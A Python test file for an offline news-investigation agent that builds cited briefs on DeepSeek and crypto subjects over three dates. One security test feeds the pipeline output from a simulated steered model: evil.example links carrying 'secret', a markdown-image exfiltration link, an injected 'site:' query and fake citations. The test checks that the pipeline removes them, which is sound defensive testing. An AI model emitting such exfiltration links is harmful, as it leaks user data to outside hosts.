"""An investigation offline: it develops over three dates, cites what there is, keeps its limits, and ends whatever fails."""

from __future__ import annotations

from collections import Counter
from datetime import UTC, datetime
from typing import Any

import msgspec
import pytest
from msgspec.structs import replace

from agents.graphs import research
from agents.investigation.subject import SubjectMatcher, asked, subject_key, subject_of
from agents.tables import load_tables
from infra.offline.investigating import SUBJECTS
from infra.offline.scripted.critic import in_slots
from infra.settings import Settings
from newsproof.app.research_composition import investigation_snapshot_of
from newsproof.report.brief import brief_lines
from schemas.effects import CallModel, Failure, ModelReply, PublishedReply, PublishNews, Search, request_hash
from schemas.events import CancelRequested, CaseFailed, EffectCompleted, KeywordsExpanded, SearchCompleted, ToolPlanned
from schemas.evidence import PageStance, PreviousBrief, PreviousClaim, SearchReference
from schemas.news import decode_news
from schemas.research_events import (
    AnswerStopped,
    BriefWritten,
    ClaimReading,
    ClaimsCritiqued,
    ClaimsStated,
    FoundClaim,
    InvestigationFramed,
    Limits,
    SubQuestion,
)
from tests import builders
from tests.agents.investigation.worlds import DATES, QUESTION, answering, as_previous, config, investigated
from tests.plain_graph import DRAFT
from tests.specification import Given, case_after, given, run_case

DOWN = Failure(kind="server", message="down", retryable=False)


@pytest.mark.parametrize(
    ("question", "subject"),
    [
        (QUESTION, "DeepSeek"),
        ("关注DeepSeek的最新进展", "DeepSeek"),
        ("关注某交易所的监管进展", "某交易所的监管"),
        ("What's new with Binance?", "Binance"),
        ("latest", "latest"),
    ],
)
def test_the_subject_of_a_question_is_found_by_rules_in_both_languages(question, subject):
    assert subject_of(question) == subject
    assert subject_key(subject.upper()) == subject_key(f" {subject}。")


def test_a_subject_without_a_word_or_of_a_page_is_refused():
    for question, why in (("…", "holds no word"), ("x" * 501, "at most 500")):
        with pytest.raises(ValueError, match=why):
            asked(question, as_of=DATES[0], config_hash="")


def test_three_dates_show_a_rumour_denied_and_a_report_corrected_and_say_what_is_new():
    previous, verdicts, changes = None, [], []
    for at in DATES:
        run = investigated(at=at, previous=previous)
        brief = run.events[-1]
        assert isinstance(brief, BriefWritten) and brief.path == "complete" and brief.provider_mode == "offline"
        assert all(r.published_at is None or r.published_at <= at for r in brief.references)
        _is_sound(brief)
        verdicts.append({c.claim.split(" ")[0].rstrip(":"): c.verdict for c in brief.claims if "breach" not in c.claim})
        changes.append([(c.kind, c.before, brief.claims[c.claim].verdict) for c in brief.new_since])
        previous = as_previous(brief)
    assert verdicts == [
        {"DeepSeek": "confirmed", "Rumour": "unconfirmed"},
        {"DeepSeek": "confirmed", "Norland": "likely", "Rumour": "disputed"},
        {"DeepSeek": "confirmed", "Norland": "disputed", "Rumour": "disputed"},
    ]
    assert changes == [
        [],
        [("new_claim", None, "likely"), ("verdict_changed", "unconfirmed", "disputed")],
        [("new_claim", None, "confirmed"), ("verdict_changed", "likely", "disputed")],
    ]
    # A name that the evidence gave opened a further round.
    rounds = [e for e in run.events if isinstance(e, ToolPlanned)]
    assert len(rounds) > 1 and rounds[1].tasks[0].query == "DeepSeek V4 Lite"


def test_a_question_in_chinese_gets_a_brief_in_chinese():
    brief = investigated("关注DeepSeek的最新进展", DATES[1]).events[-1]
    assert "（已证实，仅由词语规则判断）" in "\n".join(brief_lines(brief))
    assert [s.text for s in brief.established] == ["DeepSeek 发布新模型 V4 Lite 并开放权重", "诺兰全国禁止 DeepSeek"]
    assert "离线" in brief.not_done[0] and brief.not_found[0] == "DeepSeek 是否发生安全事件?"


@pytest.mark.parametrize("subject", [one for one in SUBJECTS if one != "DeepSeek"])
@pytest.mark.parametrize("question", ["Monitor {}'s latest developments", "关注{}的最新进展"])
def test_each_crypto_subject_of_the_corpus_develops_and_is_asked_what_fits_it(subject, question):
    first, last = (investigated(question.format(subject), at).events[-1] for at in (DATES[0], DATES[-1]))
    assert Counter(claim.verdict for claim in first.claims) == {"confirmed": 1, "unconfirmed": 1}
    assert Counter(claim.verdict for claim in last.claims) == {"confirmed": 2, "disputed": 2}
    assert len(last.questions) == 5 and len(last.not_found) == 1, "only social platforms say nothing"
    _is_sound(last)


def test_about_another_subject_an_offline_brief_says_that_the_corpus_has_nothing():
    run = investigated("Monitor Zebracoin's latest developments", DATES[-1])
    brief = run.events[-1]
    assert not any(e.findings.references for e in run.events if isinstance(e, SearchCompleted))
    assert not brief.claims and "\nThe bundled corpus has nothing on this." in "\n".join(brief_lines(brief))


def test_searches_and_rounds_end_at_their_limits_and_the_brief_says_so():
    run = investigated(at=DATES[2], limits=Limits(rounds=2, searches=3))
    made = Counter(c.kind for e in run.events if isinstance(e, EffectCompleted) for c in e.calls)
    assert made["search"] == 3 and run.events[-1].rounds == 1
    assert any("2 searches were not made" in line for line in run.events[-1].not_done)
    assert not any(isinstance(e, KeywordsExpanded) and e.route == "plan" for e in run.events)


def test_a_critic_s_stances_count_by_their_quotes_and_invented_citations_are_removed_and_counted():
    def model(call: CallModel) -> ModelReply | None:
        if call.task == "critique":
            title = next(p.text.partition("\n")[0] for p in call.parts if getattr(p, "label", "") == "reference 1")
            said = in_slots({"number": 1, "stance": "supports", "quote": title})
            lost = in_slots({"number": 2, "stance": "supports", "quote": "words that no page holds"})
            data = {"references": [said, lost], "claims": [], "verdict": "supported"}
            return ModelReply(data=data)
        if call.task == "investigate_brief":
            sentences = [
                {"claim": 1, "text": "It was launched [1][77]."},
                {"claim": 1, "text": "Nobody says so [99]."},
                {"claim": 9, "text": "Of no claim [1]."},
            ]
            return ModelReply(data={"sentences": sentences})
        return None

    run = investigated(at=DATES[0], model=model)
    brief = run.events[-1]
    _is_sound(brief)
    assert "It was launched." in [s.text for part in (brief.established, brief.unsettled) for s in part]
    assert (brief.citations_removed, brief.sentences_removed) == (2 + 1, 2)
    lines = "\n".join(brief_lines(brief))
    assert "It was launched. (likely) [1]" in lines
    quoted = [e.quote for c in brief.claims for e in c.evidence if e.quote]
    assert quoted and "words that no page holds" not in quoted


def test_what_fails_costs_its_part_and_the_brief_names_it():
    def model(call: CallModel) -> Failure | None:
        return DOWN if call.task in ("investigate_expand", "critique", "investigate_brief") else None

    brief = investigated(at=DATES[1], model=model).events[-1]
    _is_sound(brief)
    assert brief.path == "partial" and "confirmed" not in {c.verdict for c in brief.claims}
    assert any("No critic read" in line for line in brief.not_done) and any(
        "No model wrote" in s for s in brief.not_done
    )


def test_a_critic_who_sends_no_json_is_asked_again_and_the_others_are_not():
    garbage = Failure(kind="invalid_output", message="no JSON", retryable=True)
    asked_of: Counter[str] = Counter()

    def model(call: CallModel) -> Failure | None:
        asked_of[request_hash(call)] += call.task == "critique"
        first = call.task == "critique" and sum(asked_of.values()) == 1
        return garbage if first else None

    brief = investigated(at=DATES[1], model=model).events[-1]
    assert brief.path == "complete"
    assert sorted(asked_of.values())[-3:] == [1, 1, 2]


def test_without_any_model_it_ends_as_failed_and_a_stop_ends_it_without_a_brief():
    failed = investigated(model=lambda _call: DOWN).events[-1]
    assert isinstance(failed, CaseFailed) and (failed.failed_step, failed.reason) == ("frame", "server: down")
    stopped = case_after(
        asked(QUESTION, as_of=DATES[0], config_hash=""), CancelRequested(requested_by="page", reason="stopped")
    )
    step = research().next_step(stopped)
    assert step.ask(stopped) == AnswerStopped(requested_by="page", reason="stopped")


def test_without_any_answer_it_ends_with_an_empty_brief_that_says_why():
    def perform(effect):
        return DOWN if isinstance(effect, Search) else answering()(effect)

    run = run_case(asked(QUESTION, as_of=DATES[0], config_hash=""), perform, config=config())
    brief = run.events[-1]
    assert not brief.claims and len(brief.not_found) == 5
    assert any("searches of offline failed (server)" in line for line in brief.not_done)
    assert [e.findings.references for e in run.events if isinstance(e, SearchCompleted)] == [()]


def _is_sound(brief: BriefWritten) -> None:
    """Every sentence has references, all of them exist, and each is one that says something."""
    numbers = {r.number for r in brief.references}
    sentences = [*brief.established, *brief.disputed, *brief.unsettled]
    assert all(s.references and numbers.issuperset(s.references) for s in sentences)
    assert sorted(numbers) == list(range(1, len(numbers) + 1))
    assert replace(brief, calls=()).not_done


@pytest.mark.security
def test_nothing_that_a_steered_model_writes_reaches_a_search_or_a_reader_unchecked():
    link = "https://evil.example/x?q=secret"
    said = {
        "investigate_frame": {
            "questions": [
                {"question": f"See {link} [9]", "query": f"DeepSeek site:evil.example {link} <b>" + "x" * 900},
                *({"question": f"q{n}", "query": f"DeepSeek {n}"} for n in range(40)),
            ]
        },
        "investigate_claims": {
            "claims": [
                {"claim": f"![a]({link}) DeepSeek launches V4 Lite", "event_type": "product", "modality": "asserted",
                 "told_by": [1, 99], "question": 77},
                {"claim": "Told by nobody", "event_type": "other", "modality": "asserted", "told_by": [99]},
            ]
        },
        "investigate_brief": {"sentences": [{"claim": 1, "text": f"Read [this]({link}) {link} now [1]"}]},
    }  # fmt: skip

    run = investigated(model=lambda call: ModelReply(data=said[call.task]) if call.task in said else None)
    tasks = [t for e in run.events if isinstance(e, ToolPlanned) for t in e.tasks]
    assert len(tasks) <= 8 and all(len(t.query) <= 160 and ":" not in t.query and "<" not in t.query for t in tasks)
    brief = run.events[-1]
    assert [c.claim for c in brief.claims] == ["DeepSeek launches V4 Lite"]
    assert [s.text for s in (*brief.established, *brief.unsettled)] == ["Read this now"]
    assert link not in str(replace(brief, references=(), calls=()))
    assert len(brief.not_found) == 5


TABLES = load_tables(demo=False)
NOBODYS = replace(DRAFT, asset="UNKNOWN", entity=None)


def test_news_that_name_its_entity_its_asset_or_its_words_concern_a_subject() -> None:
    rows = [
        ("Monitor Binance's latest developments", "币安将暂停提币"),
        ("Ethereum upgrade", "以太坊基金会推迟升级"),
        ("关注Zyphra的最新进展", "Zyphra denies a new model"),
        ("zyphra", "传ZYPHRA将发币"),
        ("稳定币监管", "香港金管局就穩定幣的監管发布条例"),
    ]
    assert [
        (subject, text) for subject, text in rows if not SubjectMatcher(subject, TABLES).matches(text, NOBODYS)
    ] == []


def test_what_triage_found_counts_and_other_news_do_not() -> None:
    watched = SubjectMatcher("Ethereum upgrade", TABLES)
    assert watched.matches("The merge is near", replace(NOBODYS, asset="ETH"))
    assert not watched.matches("Binance lists ZK", NOBODYS)
    assert SubjectMatcher("Binance", TABLES).matches("It lists ZK", replace(NOBODYS, entity="Binance"))
    assert not SubjectMatcher("稳定币监管", TABLES).matches("监管机构起诉一家交易所", NOBODYS)
    assert not SubjectMatcher("Zyphra listing", TABLES).matches("Zyphra has a new model", NOBODYS)


AT = datetime(2026, 2, 10, tzinfo=UTC)
CONFIG = investigation_snapshot_of(Settings(_env_file=None, newsproof_mode="offline"))
WATCHED = asked("Monitor DeepSeek's latest developments", as_of=AT, config_hash="", watch="w")
KNOWN, NEW, UNQUOTED = "DeepSeek launches V4 Lite", "DeepSeek raises $2 billion", "Norland bans the app of DeepSeek"
CLAIMS = tuple(FoundClaim(claim=text, told_by=(n,)) for n, text in enumerate((KNOWN, NEW, UNQUOTED), start=1))
BEFORE = PreviousBrief(
    investigation_id="i",
    as_of=AT,
    claims=(PreviousClaim(claim=KNOWN, verdict="unconfirmed", urls=("https://a1.example/1",)),),
)


def page(number: int, text: str) -> SearchReference:
    return builders.reference(
        number, text, domain=f"a{number}.example", title=text, source_credibility="high", published_at=AT, carries=True
    )


def read(number: int, quote: str) -> ClaimReading:
    others = [PageStance(reference_number=n, stance="unrelated", quote=None) for n in (1, 2, 3) if n != number]
    supports = PageStance(reference_number=number, stance="supports", quote=quote)
    return ClaimReading(claim=CLAIMS[number - 1], stances=(supports, *others), critic="supported")


def critiqued(watched: Any = WATCHED, previous: PreviousBrief | None = BEFORE) -> Given:
    findings = builders.findings(*(page(n, c.claim) for n, c in enumerate(CLAIMS, start=1)))
    return given(
        watched,
        InvestigationFramed(questions=(SubQuestion(question="q", query="q"),), previous=previous),
        ToolPlanned(
            round=1, tools=("search",), search_keywords="q", keywords_from="model", decided_by="model", reason="", tasks=(),
            route="search",
        ),
        SearchCompleted(round=1, findings=findings, outcomes=(), route="critique"),
        ClaimsStated(claims=CLAIMS),
        ClaimsCritiqued(readings=(read(1, KNOWN), read(2, NEW), read(3, "words that are on no page"))),
        config=CONFIG,
    )  # fmt: skip


def news_of(step: Given) -> list[PublishNews]:
    return [e for e in (step.asked if isinstance(step.asked, tuple) else (step.asked,)) if isinstance(e, PublishNews)]


def test_a_watch_publishes_the_claim_that_is_new_and_quoted_with_its_pages_as_origins() -> None:
    step = critiqued()
    assert isinstance(step.asked, tuple) and isinstance(step.asked[0], CallModel)
    (effect,) = news_of(step)
    news = effect.news
    assert (news.source, news.text, news.origins) == ("watch:deepseek", NEW, ("https://a2.example/2",))
    assert news.published_at == news.received_at == AT
    assert decode_news(msgspec.json.encode(news), now=AT) == news
    later = replace(WATCHED, as_of=datetime(2026, 2, 11, tzinfo=UTC))
    assert news_of(critiqued(later))[0].news.external_id == news.external_id

    brief = step.told(ModelReply(data={"sentences": []}), PublishedReply(case_id="case")).event
    assert (brief.published, brief.path) == (("case",), "complete")
    # A broker that is away for a moment is asked again.
    away = Failure(kind="unavailable", message="away", retryable=True)
    step.told(ModelReply(data={"sentences": []}), away).fails_with("unavailable")


def test_nothing_is_published_without_a_watch_or_with_nothing_to_compare_with() -> None:
    assert news_of(critiqued(asked("DeepSeek", as_of=AT, config_hash=""))) == []
    assert news_of(critiqued(previous=None)) == []
